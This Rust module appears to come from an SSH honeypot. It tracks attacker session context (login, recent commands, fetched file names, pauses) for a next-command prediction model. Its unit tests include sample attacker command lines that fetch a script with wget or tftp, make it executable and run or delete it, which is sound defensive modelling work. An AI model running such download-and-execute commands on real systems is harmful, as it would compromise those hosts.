//! One session as the next-command model ([`super::markov`]) sees it, updated online: its
//! login, its last commands (with fetched file names replaced by placeholders), the names of
//! the files it fetched and how it types them (pauses); its last commands are also its cache
//! (what it is likely to retype).
//!
//! A session holds one [`SessionContext`] and [`SessionContext::push`]es each command as it
//! comes; the model reads it to predict the next one. Everything it keeps is bounded, so an
//! attacker sending a million commands costs a fixed amount of memory, and nothing here
//! panics on attacker input.

use std::borrow::Cow;
use std::collections::VecDeque;

use super::normalize::Normalized;

/// The longest context the model can use: the last commands kept, in commands.
pub const WINDOW: usize = 32;
/// Most fetched file names remembered (the oldest is forgotten first).
pub const MAX_NAMES: usize = 32;
/// How much each older command counts less in the session cache: a person retypes what they
/// typed lately (0.9 per command: held-out humans 0.298 against 0.287 counting all alike).
const CACHE_DECAY: f64 = 0.9;
/// The context token before a session's first command.
pub(crate) const START: &str = "<S>";

/// What a session's login tells before its first command. Empty fields are left out.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Login {
    /// The SSH client's version string (`SSH-2.0-libssh2_1.4.3`).
    pub client: Option<String>,
    /// The user name that got in.
    pub username: Option<String>,
    /// The password that got in.
    pub password: Option<String>,
}

impl Login {
    /// The context tokens before the start symbol, most general first: client, then user and
    /// password together (the nearer the start, the sooner a prediction falls back to it).
    pub(crate) fn tokens(&self) -> Vec<String> {
        let mut out = Vec::new();
        if let Some(client) = &self.client {
            out.push(format!("<C:{}>", cap(client)));
        }
        if self.username.is_some() || self.password.is_some() {
            out.push(format!(
                "<U:{}:{}>",
                cap(self.username.as_deref().unwrap_or("")),
                cap(self.password.as_deref().unwrap_or(""))
            ));
        }
        out
    }
}

/// At most 64 bytes of an attacker-chosen login field (cut at a character boundary), so a
/// context key stays small whatever they send.
fn cap(text: &str) -> &str {
    let mut end = text.len().min(64);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    text.get(..end).unwrap_or("")
}

/// A session's context for next-command prediction.
#[derive(Debug, Clone, Default)]
pub struct SessionContext {
    /// The login's context tokens ([`Login::tokens`]).
    prefix: Vec<String>,
    /// The last [`WINDOW`] commands' tokens, fetched names replaced by placeholders.
    tokens: VecDeque<String>,
    /// The last [`WINDOW`] commands' programs.
    programs: VecDeque<String>,
    /// The last [`WINDOW`] commands' normalized tokens as typed (no placeholders).
    typed: VecDeque<String>,
    /// Commands pushed so far.
    commands: usize,
    /// Names of fetched files, the most recently fetched first: `<F1>` is the latest.
    names: Vec<String>,
    /// When the last command came, in seconds since the session started.
    last_time: Option<f64>,
    /// Pauses between commands, in seconds, of commands that came at different times.
    gaps: Vec<f64>,
}

impl SessionContext {
    /// A session that logged in with `login` and has typed nothing yet.
    pub fn new(login: &Login) -> SessionContext {
        SessionContext {
            prefix: login.tokens(),
            ..SessionContext::default()
        }
    }

    /// A session (with no login information and no times) that typed `commands`.
    pub fn from_commands(commands: &[Normalized]) -> SessionContext {
        let mut context = SessionContext::default();
        for command in commands {
            context.push(command, None);
        }
        context
    }

    /// Takes in the session's next command, typed `at` seconds after the session started
    /// (when known).
    pub fn push(&mut self, command: &Normalized, at: Option<f64>) {
        for name in &command.fetched {
            self.names.retain(|n| n != name);
            self.names.insert(0, name.clone());
            self.names.truncate(MAX_NAMES);
        }
        self.tokens
            .push_back(substitute(&command.token, &self.names));
        self.programs.push_back(command.program.clone());
        self.typed.push_back(command.token.clone());
        if self.tokens.len() > WINDOW {
            self.tokens.pop_front();
            self.programs.pop_front();
            self.typed.pop_front();
        }
        self.commands = self.commands.saturating_add(1);
        if let Some(at) = at.filter(|t| t.is_finite()) {
            if let Some(last) = self.last_time
                && at > last
                && self.gaps.len() < WINDOW
            {
                self.gaps.push(at - last);
            }
            self.last_time = Some(at);
        }
    }

    /// Appends to `key` everything of the context a prediction reads but its pauses (login,
    /// the commands in the window, fetched names, and whether the window holds them all), so
    /// two contexts with the same key and the same [`SessionContext::human_like`] answer
    /// get the same guesses.
    pub(crate) fn write_key(&self, key: &mut Vec<u8>) {
        let mut strings = |part: &mut dyn Iterator<Item = &String>, len: usize| {
            key.extend_from_slice(&(len as u64).to_le_bytes());
            for text in part {
                key.extend_from_slice(&(text.len() as u64).to_le_bytes());
                key.extend_from_slice(text.as_bytes());
            }
        };
        strings(&mut self.prefix.iter(), self.prefix.len());
        strings(&mut self.tokens.iter(), self.tokens.len());
        strings(&mut self.programs.iter(), self.programs.len());
        strings(&mut self.typed.iter(), self.typed.len());
        strings(&mut self.names.iter(), self.names.len());
        let commands = self.commands.min(WINDOW + 1) as u64;
        key.extend_from_slice(&commands.to_le_bytes());
    }

    /// Names of the files the session fetched, the most recently fetched first (`<F1>`).
    pub(crate) fn fetched(&self) -> &[String] {
        &self.names
    }

    /// The last command's token as the model learns it (fetched names as placeholders).
    pub(crate) fn last_token(&self) -> Option<&str> {
        self.tokens.back().map(String::as_str)
    }

    /// Commands pushed so far.
    pub fn commands(&self) -> usize {
        self.commands
    }

    /// Whether the session types like a person: some pause between commands of at least
    /// `gap` seconds (scripts send their commands within a second or two).
    pub fn human_like(&self, gap: f64) -> bool {
        self.gaps.iter().any(|&g| g >= gap)
    }

    /// The session's own guess at its next command, from its last [`WINDOW`] commands: half
    /// each command typed, the latest counting most (each older one [`CACHE_DECAY`] times
    /// less), half what it typed after its last program the earlier times it ran that
    /// program (a person who ran `ls -a` after each `cd` will do it again). Tokens with their
    /// probability and program, by token; empty before the first command.
    pub(crate) fn cache(&self) -> Vec<(&str, f64, &str)> {
        let n = self.typed.len();
        let last = self.programs.back();
        let follows = (1..n).filter(|&j| Some(&self.programs[j - 1]) == last);
        let followed = follows.clone().count();
        let unigram = if followed == 0 { 1.0 } else { 0.5 };
        let mut out: Vec<(&str, f64, &str)> = Vec::with_capacity(n);
        let decay = |j: usize| CACHE_DECAY.powi(i32::try_from(n - 1 - j).unwrap_or(i32::MAX));
        let norm: f64 = (0..n).map(decay).sum();
        let shares = (0..n)
            .map(|j| (j, unigram * decay(j) / norm))
            .chain(follows.map(|j| (j, (1.0 - unigram) / followed as f64)));
        for (j, share) in shares {
            let token = self.typed[j].as_str();
            match out.binary_search_by(|e| e.0.cmp(token)) {
                Ok(at) => out[at].1 += share,
                Err(at) => out.insert(at, (token, share, self.programs[j].as_str())),
            }
        }
        out
    }

    /// The context items (login, start, commands) of `part` (tokens or programs), oldest
    /// first, and how many of the last ones a context key may use: up to `order` commands,
    /// or, for a session shorter than that, everything back to the login.
    pub(crate) fn items(&self, programs: bool, order: usize) -> (Vec<&str>, usize) {
        let part = if programs {
            &self.programs
        } else {
            &self.tokens
        };
        let whole = self.commands == part.len();
        let mut items: Vec<&str> = Vec::with_capacity(self.prefix.len() + 1 + part.len());
        if whole {
            items.extend(self.prefix.iter().map(String::as_str));
            items.push(START);
        }
        items.extend(part.iter().map(String::as_str));
        let reach = if whole && self.commands < order {
            items.len()
        } else {
            order.min(items.len())
        };
        (items, reach)
    }

    /// `next`'s token as the model learns it after this context: names fetched *before* it
    /// replaced by placeholders.
    pub(crate) fn target(&self, next: &Normalized) -> String {
        substitute(&next.token, &self.names)
    }

    /// A guessed token with its placeholders replaced by the session's names; `None` when it
    /// names a file the session has not fetched.
    pub(crate) fn spell<'a>(&self, token: &'a str) -> Option<Cow<'a, str>> {
        if token.contains("<F") {
            spell(token, &self.names).map(Cow::Owned)
        } else {
            Some(Cow::Borrowed(token))
        }
    }
}

/// The placeholder of the file fetched `i` fetches ago (0: the latest).
fn placeholder(i: usize) -> String {
    format!("<F{}>", i + 1)
}

/// `token` with every word or path part equal to a fetched name replaced by its placeholder.
fn substitute(token: &str, names: &[String]) -> String {
    if names.is_empty() {
        return token.to_owned();
    }
    let mut out = String::with_capacity(token.len());
    for (w, word) in token.split(' ').enumerate() {
        if w > 0 {
            out.push(' ');
        }
        for (p, part) in word.split('/').enumerate() {
            if p > 0 {
                out.push('/');
            }
            match names.iter().position(|n| n == part) {
                Some(i) => out.push_str(&placeholder(i)),
                None => out.push_str(part),
            }
        }
    }
    out
}

/// `token` with its placeholders replaced by `names`; `None` when one is out of range.
fn spell(token: &str, names: &[String]) -> Option<String> {
    if !token.contains("<F") {
        return Some(token.to_owned());
    }
    let mut out = String::with_capacity(token.len());
    let mut rest = token;
    while let Some(at) = rest.find("<F") {
        out.push_str(rest.get(..at)?);
        let after = rest.get(at + 2..)?;
        let digits = after.chars().take_while(char::is_ascii_digit).count();
        let tail = after.get(digits..)?;
        match after.get(..digits)?.parse::<usize>() {
            Ok(n) if n > 0 && tail.starts_with('>') => {
                out.push_str(names.get(n - 1)?);
                rest = tail.get(1..)?;
            }
            _ => {
                out.push_str("<F");
                rest = after;
            }
        }
    }
    out.push_str(rest);
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::models::normalize::normalize_line;

    fn pushed(lines: &[&str]) -> SessionContext {
        let commands: Vec<Normalized> = lines.iter().flat_map(|l| normalize_line(l)).collect();
        SessionContext::from_commands(&commands)
    }

    #[test]
    fn fetched_names_become_placeholders_and_are_spelled_back() {
        let context = pushed(&["cd /tmp; wget http://a/x.sh; chmod 777 x.sh"]);
        let (items, reach) = context.items(false, 5);
        assert_eq!(items, ["<S>", "cd /tmp", "wget <URL>", "chmod <NUM> <F1>"]);
        assert_eq!(reach, 4);
        assert_eq!(context.spell("sh <F1>").as_deref(), Some("sh x.sh"));
        assert_eq!(context.spell("sh <F2>"), None, "no second file yet");
        assert_eq!(
            context.spell("echo <F> <Fx> <F0>").as_deref(),
            Some("echo <F> <Fx> <F0>")
        );
        assert_eq!(
            substitute("./x.sh && rm /tmp/x.sh", &context.names),
            "./<F1> && rm /tmp/<F1>"
        );
        let tftp = pushed(&["tftp 1.2.3.4 -c get t1.sh"]);
        assert_eq!(tftp.items(false, 5).0, ["<S>", "tftp <IP> -c get <F1>"]);
    }

    #[test]
    fn the_login_stands_before_the_start_until_the_context_is_long() {
        let login = Login {
            client: Some("SSH-2.0-Go".into()),
            username: Some("root".into()),
            password: Some("x".repeat(500)),
        };
        let mut context = SessionContext::new(&login);
        let (items, reach) = context.items(true, 2);
        assert_eq!(items.len(), 3);
        assert_eq!(reach, 3);
        assert!(
            items[1].len() < 80,
            "attacker fields are capped: {}",
            items[1]
        );
        for line in ["uname", "w", "id"] {
            context.push(&normalize_line(line)[0], None);
        }
        assert_eq!(context.items(true, 2).1, 2);
        for _ in 0..WINDOW {
            context.push(&normalize_line("ls")[0], None);
        }
        let (items, reach) = context.items(false, 5);
        assert_eq!(items.len(), WINDOW, "old commands and the login fall out");
        assert_eq!(reach, 5);
    }

    #[test]
    fn pauses_and_the_cache_are_bounded() {
        let mut context = SessionContext::new(&Login::default());
        let ls = &normalize_line("ls")[0];
        context.push(ls, Some(1.0));
        context.push(ls, Some(1.5));
        assert!(!context.human_like(2.0));
        context.push(ls, Some(f64::NAN));
        context.push(ls, Some(9.0));
        assert!(context.human_like(2.0));
        assert!(context.cache().iter().any(|e| e.0 == "ls" && e.1 > 0.0));
        for i in 0..2 * WINDOW {
            context.push(&normalize_line(&format!("echo a{i}"))[0], None);
        }
        let cache = context.cache();
        assert!(cache.len() <= WINDOW, "{}", cache.len());
        assert!(
            cache.iter().all(|e| e.0 != "ls"),
            "ls fell out of the window"
        );
        assert!(cache.is_sorted_by(|a, b| a.0 < b.0));
        let sum: f64 = cache.iter().map(|e| e.1).sum();
        assert!((sum - 1.0).abs() < 1e-9, "{sum}");
    }

    #[test]
    fn the_cache_expects_what_was_typed_lately() {
        // `uname` and `pwd` were each typed once, `ls` twice: `ls` is the likeliest to be
        // retyped, and of the other two the one typed last.
        let context = pushed(&["ls", "ls", "uname", "pwd"]);
        let share = |token: &str| {
            context
                .cache()
                .iter()
                .find(|e| e.0 == token)
                .map_or(0.0, |e| e.1)
        };
        assert!(share("ls") > share("pwd"), "{:?}", context.cache());
        assert!(share("pwd") > share("uname"), "{:?}", context.cache());
    }
}
